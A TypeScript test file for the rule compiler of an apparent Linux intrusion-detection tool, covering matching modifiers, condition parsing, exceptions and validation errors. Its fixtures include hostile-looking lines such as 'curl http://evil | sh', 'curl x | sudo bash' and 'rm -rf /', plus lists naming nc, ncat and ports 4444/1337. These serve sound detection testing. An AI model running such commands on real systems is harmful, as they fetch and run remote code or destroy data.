import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compileCondition, compileLibrary, compileStep } from '../src/rules/compile.js';
import { RuleCompileError, type RawException, type RawSelection, type RuleLibrary } from '../src/rules/compiled.js';
import { createRecordView, NO_PROCESS_CONTEXT } from '../src/rules/record-view.js';
import type { NormalizedRecord, ProcessStartRecord } from '../src/normalize/records.js';
import { connect, open, processStart, rename, write } from './detect-fixtures.js';

const ORIGIN = { file: '/etc/rand-guard/rules.d/test.toml', ruleId: 'T-1' };
const LIB: RuleLibrary = {
  lists: new Map<string, (string | number | boolean)[]>([
    ['shells', ['/bin/sh', '/bin/bash', '/usr/bin/dash']],
    ['ports', [4444, 1337]],
    ['tools', ['nc', 'ncat']],
  ]),
  macros: new Map<string, RawSelection>([
    ['shell_process', { 'exe_path|expand': '%shells%' }],
    ['root', { uid: 0 }],
  ]),
};

function cond(detection: Record<string, RawSelection>, condition?: string, events: string[] = ['process_start'], exceptions: RawException[] = [], lib = LIB) {
  return compileCondition({ events, detection, ...(condition !== undefined ? { condition } : {}) }, lib, ORIGIN, exceptions);
}

function matches(detection: Record<string, RawSelection>, record: NormalizedRecord, condition?: string, events?: string[]): boolean {
  const c = cond(detection, condition, events ?? [record.event_type]);
  return c.matches(createRecordView(record, NO_PROCESS_CONTEXT));
}

function proc(over: Partial<ProcessStartRecord> = {}): ProcessStartRecord {
  return { ...processStart({ exe_path: '/usr/bin/curl', comm: 'curl', uid: 1000 }), argv: ['curl', '-fsSL', 'http://x.test/A.sh'], ...over };
}

/** Asserts that compiling throws a RuleCompileError naming the file, rule id, field (when given) and reason. */
function rejects(fn: () => unknown, field: string | null, reason: RegExp): void {
  assert.throws(fn, (err: unknown) => {
    assert.ok(err instanceof RuleCompileError, `not a RuleCompileError: ${String(err)}`);
    assert.equal(err.field, field);
    assert.match(err.message, /^rules file \/etc\/rand-guard\/rules\.d\/test\.toml: rule 'T-1'/);
    if (field !== null) assert.ok(err.message.includes(`field '${field}'`), err.message);
    assert.match(err.reason, reason);
    return true;
  });
}

test('equals: strings case-insensitive by default, `cased` makes them case-sensitive', () => {
  assert.equal(matches({ s: { exe_path: '/USR/bin/CURL' } }, proc()), true);
  assert.equal(matches({ s: { 'exe_path|cased': '/USR/bin/CURL' } }, proc()), false);
  assert.equal(matches({ s: { 'exe_path|cased': '/usr/bin/curl' } }, proc()), true);
  assert.equal(matches({ s: { exe_path: '/usr/bin/cur' } }, proc()), false);
});

test('equals: numbers, bigints, booleans, and their text against a string value', () => {
  assert.equal(matches({ s: { uid: 1000 } }, proc()), true);
  assert.equal(matches({ s: { uid: 0 } }, proc()), false);
  assert.equal(matches({ s: { uid: '1000' } }, proc()), true);
  assert.equal(matches({ s: { uid: 1000n } }, proc()), true);
  assert.equal(matches({ s: { cgroup_id: 18446744073709551615n } }, proc({ cgroup_id: 18446744073709551615n })), true);
  assert.equal(matches({ s: { cgroup_id: 5 } }, proc({ cgroup_id: 5n })), true);
  assert.equal(matches({ s: { cgroup_id: 6 } }, proc({ cgroup_id: 5n })), false);
  assert.equal(matches({ s: { exe_setuid: true } }, proc({ exe_setuid: true })), true);
  assert.equal(matches({ s: { exe_setuid: true } }, proc({ exe_setuid: false })), false);
  assert.equal(matches({ s: { exe_setuid: 'TRUE' } }, proc({ exe_setuid: true })), true);
  assert.equal(matches({ s: { exe_setuid: 1 } }, proc({ exe_setuid: true })), false);
});

test('a value list is any-of; `all` needs every value; a list field matches when any element does', () => {
  assert.equal(matches({ s: { comm: ['wget', 'curl'] } }, proc()), true);
  assert.equal(matches({ s: { comm: ['wget', 'fetch'] } }, proc()), false);
  assert.equal(matches({ s: { 'argv|contains|all': ['-fsSL', 'x.test'] } }, proc()), true);
  assert.equal(matches({ s: { 'argv|contains|all': ['-fsSL', 'y.test'] } }, proc()), false);
  assert.equal(matches({ s: { argv: '-FSSL' } }, proc()), true);
  assert.equal(matches({ s: { 'argv|cased': '-FSSL' } }, proc()), false);
  assert.equal(matches({ s: { 'command_line|contains|all': ['curl', 'A.SH'] } }, proc()), true);
  // `all` on a list field: each value may match a different element
  assert.equal(matches({ s: { 'argv|all': ['curl', '-fssl'] } }, proc()), true);
  assert.equal(matches({ s: { 'argv|all': ['curl', 'wget'] } }, proc()), false);
});

test('contains / startswith / endswith, with numbers stringified', () => {
  assert.equal(matches({ s: { 'exe_path|endswith': ['/curl', '/wget'] } }, proc()), true);
  assert.equal(matches({ s: { 'exe_path|startswith': '/USR/BIN/' } }, proc()), true);
  assert.equal(matches({ s: { 'exe_path|startswith|cased': '/USR/BIN/' } }, proc()), false);
  assert.equal(matches({ s: { 'exe_path|contains': 'bin/cu' } }, proc()), true);
  assert.equal(matches({ s: { 'exe_path|contains': 'sbin' } }, proc()), false);
  assert.equal(matches({ s: { 'uid|startswith': 10 } }, proc()), true);
  assert.equal(matches({ s: { 'uid|endswith': '01' } }, proc()), false);
});

test('re: RE2, unanchored, case-sensitive unless `i`; `m` and `s` flags', () => {
  const r = proc({ parent_argv: ['bash', '-c', 'curl x | sudo bash'] });
  assert.equal(matches({ s: { 'parent_command_line|re': '\\|\\s*(sudo\\s+)?(ba|da|z)?sh\\b' } }, r), true);
  assert.equal(matches({ s: { 'exe_path|re': 'CURL$' } }, proc()), false);
  assert.equal(matches({ s: { 'exe_path|re|i': 'CURL$' } }, proc()), true);
  const multi = proc({ argv: ['sh', '-c', 'echo a\nrm -rf /'] });
  assert.equal(matches({ s: { 'command_line|re': '^rm' } }, multi), false);
  assert.equal(matches({ s: { 'command_line|re|m': '^rm' } }, multi), true);
  assert.equal(matches({ s: { 'command_line|re': 'a.rm' } }, multi), false);
  assert.equal(matches({ s: { 'command_line|re|s': 'a.rm' } }, multi), true);
});

test('glob: `*` stays within a segment, `**` crosses; case-insensitive unless cased', () => {
  const f = open('/home/u/.ssh/authorized_keys');
  assert.equal(matches({ s: { 'filename|glob': '/home/*/.ssh/authorized_keys*' } }, f), true);
  assert.equal(matches({ s: { 'filename|glob': '/home/*/authorized_keys' } }, f), false);
  assert.equal(matches({ s: { 'filename|glob': '/home/**/authorized_keys' } }, f), true);
  assert.equal(matches({ s: { 'filename|glob': '/HOME/**' } }, f), true);
  assert.equal(matches({ s: { 'filename|glob|cased': '/HOME/**' } }, f), false);
  assert.equal(matches({ s: { 'path|glob': '/etc/cron.{d,daily}/*' } }, rename('/tmp/x', '/etc/cron.d/job')), true);
  assert.equal(matches({ s: { 'path|glob': '/etc/cron.[!d]*/*' } }, rename('/tmp/x', '/etc/cron.d/job')), false);
  assert.equal(matches({ s: { 'filename|glob': '/ETC/[O-P]ASSWD' } }, open('/etc/passwd')), true);
  assert.equal(matches({ s: { 'filename|glob|cased': '/etc/[O-P]asswd' } }, open('/etc/passwd')), false);
  assert.equal(matches({ s: { 'filename|glob': '/etc/passwd' } }, open('/etc/PASSWD')), true); // literal glob
  assert.equal(matches({ s: { 'filename|glob': '/etc/passwd' } }, open('/etc/passwd-')), false);
  assert.equal(matches({ s: { 'filename|glob': '/etc/**' } }, open('/etc')), true); // `/**` includes the directory
});

test('cidr: IPv4, IPv6 and IPv4-mapped IPv6 (`::ffff:10.1.2.3` counts as IPv4)', () => {
  assert.equal(matches({ s: { 'remote_addr|cidr': '10.0.0.0/8' } }, connect(443, {}, '10.1.2.3')), true);
  assert.equal(matches({ s: { 'remote_addr|cidr': '10.0.0.0/8' } }, connect(443, {}, '::ffff:10.1.2.3')), true);
  assert.equal(matches({ s: { 'remote_addr|cidr': '::ffff:10.0.0.0/104' } }, connect(443, {}, '10.1.2.3')), true);
  assert.equal(matches({ s: { 'remote_addr|cidr': ['192.168.0.0/16', '172.16.0.0/12'] } }, connect(443, {}, '10.1.2.3')), false);
  assert.equal(matches({ s: { 'remote_addr|cidr': 'fd00::/8' } }, connect(443, {}, 'fd12::1')), true);
  assert.equal(matches({ s: { 'remote_addr|cidr': 'fd00::/8' } }, connect(443, {}, '10.1.2.3')), false);
  assert.equal(matches({ s: { 'remote_addr|cidr': '10.1.2.3' } }, connect(443, {}, '10.1.2.3')), true);
  assert.equal(matches({ s: { 'remote_addr|cidr': '10.0.0.0/8' } }, { ...connect(443), remote_addr: 'not-an-ip' }), false);
  assert.equal(matches({ s: { 'addr|cidr': '127.0.0.0/8' } }, connect(443)), true);
});

test('lt / lte / gt / gte on numbers, bigints and numeric text; other values never match', () => {
  const c = connect(4444);
  assert.equal(matches({ s: { 'remote_port|gt': 1024 } }, c), true);
  assert.equal(matches({ s: { 'remote_port|gte': 4444 } }, c), true);
  assert.equal(matches({ s: { 'remote_port|lt': 4444 } }, c), false);
  assert.equal(matches({ s: { 'remote_port|lte': '4444' } }, c), true);
  assert.equal(matches({ s: { 'port|lt': 1024 } }, c), false);
  assert.equal(matches({ s: { 'cgroup_id|gt': 10 } }, proc({ cgroup_id: 11n })), true);
  assert.equal(matches({ s: { 'cgroup_id|gt': 10n } }, proc({ cgroup_id: 10 })), false);
  assert.equal(matches({ s: { 'comm|gt': 1 } }, proc()), false);
});

test('exists and null: a missing or null field', () => {
  assert.equal(matches({ s: { 'tty|exists': false } }, proc({ tty: null })), true);
  assert.equal(matches({ s: { 'tty|exists': true } }, proc({ tty: null })), false);
  assert.equal(matches({ s: { 'tty|exists': true } }, proc({ tty: 'pts/1' })), true);
  assert.equal(matches({ s: { 'env.LD_PRELOAD|exists': true } }, proc({ env: { LD_PRELOAD: '/tmp/x.so' } })), true);
  assert.equal(matches({ s: { 'env.LD_PRELOAD|exists': true } }, proc({ env: {} })), false);
  assert.equal(matches({ s: { tty: null } }, proc({ tty: null })), true);
  assert.equal(matches({ s: { tty: [null, 'pts/0'] } }, proc({ tty: 'pts/0' })), true);
  assert.equal(matches({ s: { tty: [null, 'pts/0'] } }, proc({ tty: 'pts/1' })), false);
  // a missing field fails every other test
  assert.equal(matches({ s: { 'tty|contains': '' } }, proc({ tty: null })), false);
});

test('nested keys: env.NAME', () => {
  const r = proc({ env: { LD_PRELOAD: '/tmp/Evil.so' } });
  assert.equal(matches({ s: { 'env.LD_PRELOAD|startswith': '/tmp/' } }, r), true);
  assert.equal(matches({ s: { 'env.LD_PRELOAD|endswith|cased': 'evil.so' } }, r), false);
});

test('expand: %list% values (whole and embedded), numbers keep their type', () => {
  assert.equal(matches({ s: { 'exe_path|expand': '%shells%' } }, proc({ exe_path: '/bin/BASH' })), true);
  assert.equal(matches({ s: { 'exe_path|expand': '%shells%' } }, proc()), false);
  assert.equal(matches({ s: { 'remote_port|expand': '%ports%' } }, connect(1337)), true);
  assert.equal(matches({ s: { 'remote_port|expand': '%ports%' } }, connect(1338)), false);
  assert.equal(matches({ s: { 'exe_path|expand|endswith': '/bin/%tools%' } }, proc({ exe_path: '/usr/bin/ncat' })), true);
});

test('windash: -x also matches /x and the Unicode dashes', () => {
  const key = { s: { 'command_line|windash|contains': ' -enc ' } };
  for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
    assert.equal(matches(key, proc({ argv: ['pwsh', `${dash}enc`, 'x'] })), true, dash);
  }
  assert.equal(matches(key, proc({ argv: ['pwsh', '+enc', 'x'] })), false);
});

test('base64 and base64offset: encoded values, case-sensitive', () => {
  const payload = Buffer.from('xx; curl http://evil | sh').toString('base64');
  assert.equal(matches({ s: { 'argv|base64': 'xx; curl http://evil | sh' } }, proc({ argv: ['echo', payload] })), true);
  assert.equal(matches({ s: { 'argv|base64': 'XX; CURL HTTP://EVIL | SH' } }, proc({ argv: ['echo', payload] })), false);
  assert.equal(matches({ s: { 'command_line|base64|startswith': 'xx; c' } }, proc({ argv: [payload] })), false); // padded: use base64offset
  assert.equal(matches({ s: { 'command_line|base64|startswith': 'xx; cu' } }, proc({ argv: [payload] })), true); // 6 bytes: no padding
  for (const prefix of ['', 'a', 'ab', 'abc']) {
    const enc = Buffer.from(`${prefix}curl http://evil`).toString('base64');
    assert.equal(matches({ s: { 'command_line|base64offset|contains': 'curl http' } }, proc({ argv: ['echo', enc] })), true, prefix);
  }
  const other = Buffer.from('wget http://evil').toString('base64');
  assert.equal(matches({ s: { 'command_line|base64offset|contains': 'curl http' } }, proc({ argv: ['echo', other] })), false);
});

test('selections: a map is AND, a list of maps is OR', () => {
  assert.equal(matches({ s: { comm: 'curl', uid: 0 } }, proc()), false);
  assert.equal(matches({ s: { comm: 'curl', uid: 1000 } }, proc()), true);
  assert.equal(matches({ s: [{ comm: 'wget' }, { uid: 1000 }] }, proc()), true);
  assert.equal(matches({ s: [{ comm: 'wget' }, { uid: 0 }] }, proc()), false);
});

test('conditions: precedence not > and > or, parentheses, keywords in any case', () => {
  const d = { a: { comm: 'curl' }, b: { uid: 0 }, c: { 'exe_path|endswith': '/curl' } };
  const r = proc(); // a true, b false, c true
  assert.equal(matches(d, r, 'a and b or c'), true); // (a and b) or c
  assert.equal(matches(d, r, 'a and (b or c)'), true);
  assert.equal(matches(d, r, 'b and a or b'), false);
  assert.equal(matches(d, r, 'not b and a'), true); // (not b) and a
  assert.equal(matches(d, r, 'not (b or a)'), false);
  assert.equal(matches(d, r, 'NOT b AND a'), true);
  assert.equal(matches(d, r, 'not not a'), true);
  assert.equal(matches(d, r, 'b or not a or b'), false);
});

test('conditions: 1 of / any of / all of patterns and them', () => {
  const d = { sel_a: { comm: 'curl' }, sel_b: { uid: 0 }, other: { uid: 1000 }, _helper: { uid: 5 } };
  const r = proc();
  assert.equal(matches(d, r, '1 of sel_*'), true);
  assert.equal(matches(d, r, 'any of sel_*'), true);
  assert.equal(matches(d, r, 'all of sel_*'), false);
  assert.equal(matches(d, r, 'all of sel_a'), true);
  assert.equal(matches(d, r, '1 of them'), true);
  assert.equal(matches(d, r, 'all of them'), false); // sel_b fails; _helper is not part of them
  assert.equal(matches({ a: { comm: 'curl' }, b: { uid: 1000 }, _x: { uid: 1 } }, r, 'all of them'), true);
  assert.equal(matches(d, r, 'all of sel_* or other'), true);
  // `any` and `all` are names unless followed by `of`
  assert.equal(matches({ any: { comm: 'curl' }, all: { uid: 0 } }, r, 'any and not all'), true);
  assert.equal(matches({ any: { comm: 'curl' }, all: { uid: 0 } }, r, 'all of them'), false);
});

test('macros are usable by name; a single selection needs no condition', () => {
  const d = { dl: { comm: 'curl' } };
  assert.equal(matches(d, proc({ uid: 0 }), 'dl and root'), true);
  assert.equal(matches(d, proc(), 'dl and root'), false);
  assert.equal(matches(d, proc({ exe_path: '/bin/sh', comm: 'sh' }), 'shell_process'), true);
  assert.equal(matches(d, proc()), true);
});

test('event types and families: matches only records of the listed types', () => {
  const c = cond({ s: { 'exe_path|exists': true } }, undefined, ['process', 'network_connect']);
  assert.deepEqual([...c.events].sort(), ['network_connect', 'process_exit', 'process_relationship', 'process_start']);
  assert.equal(c.matches(createRecordView(proc(), NO_PROCESS_CONTEXT)), true);
  assert.equal(c.matches(createRecordView(connect(1), NO_PROCESS_CONTEXT)), true);
  assert.equal(c.matches(createRecordView(open('/x'), NO_PROCESS_CONTEXT)), false);
  const files = cond({ s: { 'path|exists': true } }, undefined, ['file']);
  // open (2), write (3), rename (3), unlink (2) and the attribute records (chmod, truncate, symlink, link, setxattr)
  assert.equal(files.events.size, 15);
  for (const t of ['file_open', 'file_write', 'file_renameat2', 'file_unlinkat', 'file_chmod', 'file_truncate', 'file_symlink', 'file_link', 'file_setxattr']) assert.ok(files.events.has(t), t);
  assert.equal(files.matches(createRecordView(write('/etc/x'), NO_PROCESS_CONTEXT)), true);
});

test('exceptions: each comparison, case-sensitive, a tuple needs every field', () => {
  const d = { s: { 'exe_path|exists': true } };
  const run = (ex: RawException, r: NormalizedRecord): boolean =>
    cond(d, undefined, [r.event_type], [ex]).matches(createRecordView(r, NO_PROCESS_CONTEXT));
  const r = proc({ uid: 0, exe_path: '/usr/sbin/sshd', argv: ['sshd', '-D'] });
  assert.equal(run({ fields: ['exe_path', 'uid'], values: [['/usr/sbin/sshd', 0]] }, r), false); // suppressed
  assert.equal(run({ fields: ['exe_path', 'uid'], values: [['/usr/sbin/sshd', 1]] }, r), true);
  assert.equal(run({ fields: ['exe_path', 'uid'], values: [['/usr/sbin/other', 0], ['/usr/sbin/sshd', 0]] }, r), false);
  assert.equal(run({ fields: ['exe_path'], values: [['/USR/SBIN/SSHD']] }, r), true); // case-sensitive
  assert.equal(run({ fields: ['exe_path'], comps: ['!='], values: [['/usr/sbin/other']] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['!='], values: [['/usr/sbin/sshd']] }, r), true);
  assert.equal(run({ fields: ['exe_path'], comps: ['startswith'], values: [['/usr/sbin/']] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['startswith'], values: [['/USR/']] }, r), true);
  assert.equal(run({ fields: ['exe_path'], comps: ['endswith'], values: [['/sshd']] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['contains'], values: [['sbin/ss']] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['contains'], values: [['bin/x']] }, r), true);
  assert.equal(run({ fields: ['exe_path'], comps: ['glob'], values: [['/usr/*/sshd']] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['glob'], values: [['/usr/*/SSHD']] }, r), true);
  assert.equal(run({ fields: ['exe_path'], comps: ['in'], values: [[['/bin/sh', '/usr/sbin/sshd']]] }, r), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['in'], values: [['shells']] }, proc({ exe_path: '/bin/bash' })), false);
  assert.equal(run({ fields: ['exe_path'], comps: ['in'], values: [['shells']] }, r), true);
  assert.equal(run({ fields: ['argv'], values: [['-D']] }, r), false); // list field: any element
  // a missing field never suppresses, not even with !=
  assert.equal(run({ fields: ['tty'], comps: ['!='], values: [['pts/0']] }, proc({ tty: null })), true);
});

test('sequence steps: join key from `by`, undefined when missing; a step without selections matches its events', () => {
  const step = compileStep({ events: ['process_start'], detection: { s: { comm: 'curl' } }, by: ['exec_id'] }, LIB, ORIGIN);
  const r = proc();
  assert.equal(step.matches(createRecordView(r, NO_PROCESS_CONTEXT)), true);
  assert.equal(step.key(createRecordView(r, NO_PROCESS_CONTEXT)), r.exec_id);
  assert.equal(step.key(createRecordView(proc({ exec_id: null }), NO_PROCESS_CONTEXT)), undefined);
  const two = compileStep({ events: ['network_connect'], detection: {}, by: ['pid', 'remote_port'] }, LIB, ORIGIN);
  assert.equal(two.key(createRecordView(connect(80, { pid: 7 }), NO_PROCESS_CONTEXT)), '7\u000080');
  assert.equal(two.matches(createRecordView(connect(80), NO_PROCESS_CONTEXT)), true);
  assert.equal(two.matches(createRecordView(proc(), NO_PROCESS_CONTEXT)), false);
  rejects(() => compileStep({ events: ['process_start'], detection: {}, by: [] }, LIB, ORIGIN), null, /by must name/);
  rejects(() => compileStep({ events: ['process_start'], detection: {}, by: ['remote_port'] }, LIB, ORIGIN), 'remote_port', /no event type/);
});

test('validation errors name the file, rule id, field and reason', () => {
  rejects(() => cond({ s: { 'comm|bogus': 'x' } }), 'comm', /unknown modifier 'bogus'/);
  rejects(() => cond({ s: { 'comm|re': '(unclosed' } }), 'comm', /bad regex/);
  rejects(() => cond({ s: { 'comm|re': '(?=lookahead)' } }), 'comm', /bad regex/);
  rejects(() => cond({ s: { 'remote_addr|cidr': '10.0.0.0/33' } }, undefined, ['network_connect']), 'remote_addr', /bad CIDR/);
  rejects(() => cond({ s: { 'remote_addr|cidr': 'nope' } }, undefined, ['network_connect']), 'remote_addr', /bad CIDR/);
  rejects(() => cond({ s: { 'uid|gt': 'many' } }), 'uid', /needs a number/);
  rejects(() => cond({ s: { 'filename|glob': '/a/[bc' } }), 'filename', /bad glob/);
  rejects(() => cond({ s: { 'comm|all': 'x' } }), 'comm', /'all' needs a list/);
  rejects(() => cond({ s: { 'comm|contains|startswith': 'x' } }), 'comm', /cannot be combined/);
  rejects(() => cond({ s: { 'comm|i': 'x' } }), 'comm', /applies to 're' only/);
  rejects(() => cond({ s: { 'comm|re|cased': 'x' } }), 'comm', /does not apply to 're'/);
  rejects(() => cond({ s: { 'comm|exists': 'yes' } }), 'comm', /true or false/);
  rejects(() => cond({ s: { 'comm|contains': null } }), 'comm', /null is only allowed/);
  rejects(() => cond({ s: { 'comm|expand': '%nolist%' } }), 'comm', /unknown list 'nolist'/);
  rejects(() => cond({ s: { comm: { nested: 1 } } }), 'comm', /not a string, number, boolean or null/);
  rejects(() => cond({ s: { comm: [] } }), 'comm', /empty value list/);
  rejects(() => cond({ s: { remote_port: 1 } }), 'remote_port', /no event type of the rule \(process_start\) has this field/);
  rejects(() => cond({ s: { 'nosuchfield|contains': 'x' } }, undefined, ['process']), 'nosuchfield', /no event type/);
  rejects(() => cond({ s: { comm: 'x' } }, 's and missing'), null, /unknown selection or macro 'missing'/);
  rejects(() => cond({ root: { comm: 'x' } }), null, /selection 'root' shadows the macro/);
  rejects(() => cond({}), null, /empty detection/);
  rejects(() => cond({ and: { comm: 'x' } }, 'and'), null, /selection name 'and' is a condition keyword/);
  rejects(() => cond({ 'a b': { comm: 'x' } }), null, /selection name 'a b' may only contain/);
  rejects(() => cond({ s: {} }), null, /selection 's': is empty/);
  rejects(() => cond({ s: [] }), null, /empty list/);
  rejects(() => cond({ a: { comm: 'x' }, b: { uid: 1 } }), null, /condition is required/);
  rejects(() => cond({ s: { comm: 'x' } }, 's and (s'), null, /'\)' expected/);
  rejects(() => cond({ s: { comm: 'x' } }, 's s'), null, /unexpected 's'/);
  rejects(() => cond({ s: { comm: 'x' } }, 's and'), null, /expression expected/);
  rejects(() => cond({ s: { comm: 'x' } }, '1 of x*'), null, /'x\*' names no selection/);
  rejects(() => cond({ s: { comm: 'x' } }, '2 of s*'), null, /only 1, any, all/);
  rejects(() => cond({ s: { comm: 'x' } }, 's*'), null, /only allowed after/);
  rejects(() => cond({ s: { comm: 'x' } }, 's & s'), null, /unexpected '&'/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, []), null, /events is empty/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, ['proces_start']), null, /unknown event type 'proces_start'/);
  // macros are checked against the using rule's event types
  const lib: RuleLibrary = { lists: LIB.lists, macros: new Map([['remote', { remote_port: 1 }]]) };
  rejects(() => cond({ s: { comm: 'x' } }, 's and remote', ['process_start'], [], lib), 'remote_port', /macro 'remote'/);
  // exceptions
  rejects(() => cond({ s: { comm: 'x' } }, undefined, undefined, [{ fields: ['nope'], values: [['x']] }]), 'nope', /exception: no event type/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, undefined, [{ fields: ['comm'], comps: ['~='], values: [['x']] }]), null, /unknown exception comparison '~='/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, undefined, [{ fields: ['comm', 'uid'], values: [['x']] }]), null, /must have 2 values/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, undefined, [{ fields: ['comm', 'uid'], comps: ['='], values: [['x', 1]] }]), null, /2 fields but 1 comps/);
  rejects(() => cond({ s: { comm: 'x' } }, undefined, undefined, [{ fields: ['comm'], comps: ['in'], values: [['nolist']] }]), 'comm', /'in' needs a list/);
});

test('compileLibrary: builds lists and macros and rejects bad ones with the file and key', () => {
  const lib = compileLibrary({ shells: ['/bin/sh'] }, { sh: { 'exe_path|expand': '%shells%' } }, '/etc/rand-guard/config.toml');
  assert.deepEqual(lib.lists.get('shells'), ['/bin/sh']);
  assert.ok(lib.macros.has('sh'));
  assert.throws(() => compileLibrary({ bad: 'x' }, {}, '/c.toml'), /rules file \/c\.toml: rule 'lists\.bad': list must be an array/);
  assert.throws(() => compileLibrary({ bad: [{}] }, {}, '/c.toml'), /lists\.bad.*not a string/);
  assert.throws(() => compileLibrary({}, { m: { 'x|bogus': 1 } }, '/c.toml'), /rule 'macros\.m': field 'x': macro 'm': unknown modifier|rule 'macros\.m': field 'x'/);
  assert.throws(() => compileLibrary({}, { m: { 'exe_path|expand': '%none%' } }, '/c.toml'), /unknown list 'none'/);
  assert.throws(() => compileLibrary({}, { them: { comm: 'x' } }, '/c.toml'), /macro name 'them' is a condition keyword/);
  const fileOf = (kind: string, name: string): string => (name === 'b' ? '/rules.d/b.toml' : '/c.toml');
  assert.throws(() => compileLibrary({ a: [1], b: 'x' }, {}, fileOf), /^RuleCompileError: rules file \/rules\.d\/b\.toml: rule 'lists\.b'|rules file \/rules\.d\/b\.toml: rule 'lists\.b'/);
});
